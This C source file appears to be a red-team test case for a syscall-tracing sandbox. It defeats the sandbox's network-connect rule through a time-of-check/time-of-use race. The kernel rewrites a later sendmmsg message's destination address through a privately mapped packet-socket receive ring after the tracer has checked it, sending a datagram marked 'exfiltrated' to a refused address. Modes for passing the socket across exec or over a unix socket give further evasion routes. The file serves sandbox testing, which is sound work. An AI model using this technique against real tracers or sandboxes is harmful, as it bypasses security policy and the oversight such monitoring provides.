/* net_pktring: a sendmmsg whose later message's address the kernel writes through a packet
 * socket's ring mapped MAP_PRIVATE (red team 50).
 *
 * A packet socket's receive ring (PACKET_RX_RING) is a set of kernel pages that packet_mmap
 * inserts into whatever mapping the caller asks for -- MAP_PRIVATE too (it never checks
 * VM_SHARED) -- and the kernel goes on writing each captured packet into those pages.  A
 * MAP_PRIVATE mmap of a descriptor does not stop (every library is one), so nothing tells the
 * tracer that a page of this private mapping has a writer.  sendmmsg sends its messages one
 * after the other and reads each message's name only when it comes to it; a message sent on
 * lo is captured synchronously, in the same call (dev_queue_xmit_nit), into the ring.  So a
 * later message's sockaddr_in whose sin_addr lies in the ring is read by the tracer before
 * the call (0.0.0.0: nothing captured yet) and by the kernel after message 0 was captured
 * (the bytes of message 0's payload: 127.127.127.127).  One task, no other writer: the call
 * itself writes, as in net_mmsglen.c, through another route than msg_len.
 *
 *   net_pktring MODE PORT
 *
 * Refused: 127.127.127.127 (net-connect, any port).  A UDP listener on 127.127.127.127:PORT
 * (the test's, outside the tree) is the witness.  Needs CAP_NET_RAW (root; or a user
 * namespace's, in a network namespace of its own).
 *
 * MODE: ring    message 0: 6000 bytes of 0x7f to 127.0.0.3:PORT; message 1: its sockaddr_in's
 *               family and port at the end of an anonymous page, its sin_addr at the start of
 *               the ring's second page (frame 0's data, 4096 bytes in).
 *       direct  one message to 127.127.127.127:PORT: the rule and the witness at work.
 *       exec    as ring, but the ring is made (setsockopt) by this image and mapped and used
 *               by the one it execs into, which inherits the socket (`after PORT FD`): an
 *               exec starts a new address space, the ring goes on being the kernel's.
 *       shared  as ring, the ring mapped MAP_SHARED as its users map it: that mmap stops and
 *               the page counts as shared, so the call is "held" -- but a sendmmsg is never
 *               copied, only frozen, and a freeze stops no kernel.
 *       check   whether a MAP_PRIVATE mapping of the ring shows what the kernel writes
 *               (prints "ring written: 0x..."), with no send to the witness.
 *       give PATH  (an outsider: review 34) makes the ring (bound to lo), listens on the unix
 *               socket PATH and hands the packet socket to each process that connects
 *               (SCM_RIGHTS); it never sends anything itself.
 *       received PATH  as ring, but the packet socket with its ring comes from the outsider
 *               `give PATH`, received over a unix socket: the tree made no setsockopt,
 *               and a MAP_PRIVATE mmap of a descriptor does not stop (review 34).
 * With $ESC_WAIT_TRACER (ring, shared), the ring is made and mapped before systrace attaches.
 * Class 2/7 (a writer that is no task: the kernel, through a mapping that did not stop).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>

#define PAGE 4096
#define FRAME (2 * PAGE)
#define FRAMES 4

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_pktring MODE PORT");
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    int giving = !strcmp(mode, "give");
    const char *unix_path = giving ? argv[2] : argc > 3 ? argv[3] : "";
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        blocked("socket: %s", ename(errno));
    struct iovec word = {.iov_base = "exfiltrated", .iov_len = 11};
    if (!strcmp(mode, "direct")) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
        inet_pton(AF_INET, "127.127.127.127", &to.sin_addr);
        struct mmsghdr one = {.msg_hdr = {.msg_name = &to, .msg_namelen = sizeof to,
                                          .msg_iov = &word, .msg_iovlen = 1}};
        int n = sendmmsg(s, &one, 1, 0);
        if (n == 1)
            escaped("sendmmsg sent its message to 127.127.127.127");
        blocked("sendmmsg: %d %s", n, n < 0 ? ename(errno) : "");
    }
    if (strcmp(mode, "ring") && strcmp(mode, "check") && strcmp(mode, "exec") &&
        strcmp(mode, "after") && strcmp(mode, "shared") && strcmp(mode, "received") && !giving)
        usage("unknown mode");
    int p = !strcmp(mode, "after") && argc > 3 ? atoi(argv[3]) : -1;
    if (p >= 0)
        goto have_ring;  /* the ring the image before the exec made */
    if (!strcmp(mode, "received")) {  /* the ring an outsider made, handed over */
        struct sockaddr_un sa;
        int u = unix_socket_at(unix_path, &sa);
        if (u < 0 || connect(u, (struct sockaddr *)&sa, sizeof sa) < 0)
            blocked("connect to the giver: %s", ename(errno));
        char byte, space[CMSG_SPACE(sizeof(int))];
        struct iovec one = {.iov_base = &byte, .iov_len = 1};
        struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space,
                           .msg_controllen = sizeof space};
        if (recvmsg(u, &m, 0) < 1)
            blocked("recvmsg from the giver: %s", ename(errno));
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        if (!c || c->cmsg_type != SCM_RIGHTS)
            blocked("no descriptor from the giver");
        memcpy(&p, CMSG_DATA(c), sizeof p);
        note("received the packet socket as %d", p);
        goto have_ring;
    }
    int given = -1;
    if (giving) {  /* each connection gets a ring of its own, made by a child of the giver */
        struct sockaddr_un sa;
        int l = unix_socket_at(unix_path, &sa);
        unlink(unix_path);
        if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(l, 8) < 0)
            blocked("listen on %s: %s", unix_path, ename(errno));
        signal(SIGCHLD, SIG_IGN);
        printf("ready\n");
        fflush(stdout);
        for (;;) {
            given = accept(l, NULL, NULL);
            if (given >= 0 && fork() == 0)
                break;
            close(given);
        }
    }
    p = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (p < 0) {
        if (errno == EPERM || errno == EAFNOSUPPORT)
            skipped("packet socket: %s (needs CAP_NET_RAW)", ename(errno));
        blocked("packet socket: %s", ename(errno));
    }
    int version = TPACKET_V2;
    if (setsockopt(p, SOL_PACKET, PACKET_VERSION, &version, sizeof version) < 0)
        blocked("PACKET_VERSION: %s", ename(errno));
    struct tpacket_req req = {.tp_block_size = FRAME, .tp_block_nr = FRAMES,
                              .tp_frame_size = FRAME, .tp_frame_nr = FRAMES};
    if (setsockopt(p, SOL_PACKET, PACKET_RX_RING, &req, sizeof req) < 0)
        blocked("PACKET_RX_RING: %s", ename(errno));
    struct sockaddr_ll ll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
                             .sll_ifindex = (int)if_nametoindex("lo")};
    if (bind(p, (struct sockaddr *)&ll, sizeof ll) < 0)  /* unbound, it captures every device */
        note("bind lo: %s (the ring captures every device then)", ename(errno));
    if (giving) {  /* hand the socket, its ring fresh, to the one that connected */
        char byte = 'r', space[CMSG_SPACE(sizeof(int))];
        memset(space, 0, sizeof space);
        struct iovec one = {.iov_base = &byte, .iov_len = 1};
        struct msghdr m = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = space,
                           .msg_controllen = sizeof space};
        struct cmsghdr *h = CMSG_FIRSTHDR(&m);
        h->cmsg_level = SOL_SOCKET;
        h->cmsg_type = SCM_RIGHTS;
        h->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(h), &p, sizeof p);
        sendmsg(given, &m, 0);
        _exit(0);
    }
    if (!strcmp(mode, "exec")) {  /* the ring made here, mapped by the next image */
        char fd[16];
        snprintf(fd, sizeof fd, "%d", p);
        execl("/proc/self/exe", argv[0], "after", argv[2], fd, (char *)NULL);
        blocked("exec: %s", ename(errno));
    }
have_ring:;
    /* the ring, mapped private; its first page then replaced by an anonymous one */
    int sharing = strcmp(mode, "shared") ? MAP_PRIVATE : MAP_SHARED;
    unsigned char *ring = mmap(NULL, FRAME * FRAMES, PROT_READ | PROT_WRITE, sharing, p, 0);
    if (ring == MAP_FAILED)
        blocked("mmap of the ring: %s", ename(errno));
    if (mmap(ring, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0)
        == MAP_FAILED)
        blocked("mmap over the ring's first page: %s", ename(errno));
    unsigned char *name1 = ring + PAGE - 4;  /* family, port | sin_addr in the ring */
    uint16_t family = AF_INET, nport = htons(port);
    memcpy(name1, &family, 2);
    memcpy(name1 + 2, &nport, 2);
    static char payload[6000];
    memset(payload, 0x7f, sizeof payload);
    struct iovec iov0 = {.iov_base = payload, .iov_len = sizeof payload};
    struct sockaddr_in first = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.3", &first.sin_addr);
    if (!strcmp(mode, "check")) {
        note("ring before: 0x%02x%02x%02x%02x", name1[4], name1[5], name1[6], name1[7]);
        if (sendto(s, payload, sizeof payload, 0, (struct sockaddr *)&first, sizeof first) < 0)
            blocked("sendto: %s", ename(errno));
        note("ring written: 0x%02x%02x%02x%02x", name1[4], name1[5], name1[6], name1[7]);
        if (name1[4] == 0x7f)
            escaped("a MAP_PRIVATE mapping of the ring shows what the kernel captured");
        blocked("the private mapping did not change");
    }
    struct mmsghdr msgs[2];
    memset(msgs, 0, sizeof msgs);
    msgs[0].msg_hdr = (struct msghdr){.msg_name = &first, .msg_namelen = sizeof first,
                                      .msg_iov = &iov0, .msg_iovlen = 1};
    msgs[1].msg_hdr = (struct msghdr){.msg_name = name1,
                                      .msg_namelen = sizeof(struct sockaddr_in),
                                      .msg_iov = &word, .msg_iovlen = 1};
    wait_for_tracer(); /* ($ESC_WAIT_TRACER: systrace --attach comes now, after the mapping) */
    note("message 1 before the call: %u.%u.%u.%u", name1[4], name1[5], name1[6], name1[7]);
    int n = sendmmsg(s, msgs, 2, 0);
    int e = errno;
    note("sendmmsg: %d (%s); message 1 after: %u.%u.%u.%u", n, n < 0 ? ename(e) : "ok",
         name1[4], name1[5], name1[6], name1[7]);
    if (n == 2 && name1[4] == 127 && name1[7] == 127)
        escaped("message 1 went to 127.127.127.127, the address the kernel wrote into the ring");
    blocked("sendmmsg: %d %s", n, n < 0 ? ename(e) : "");
}
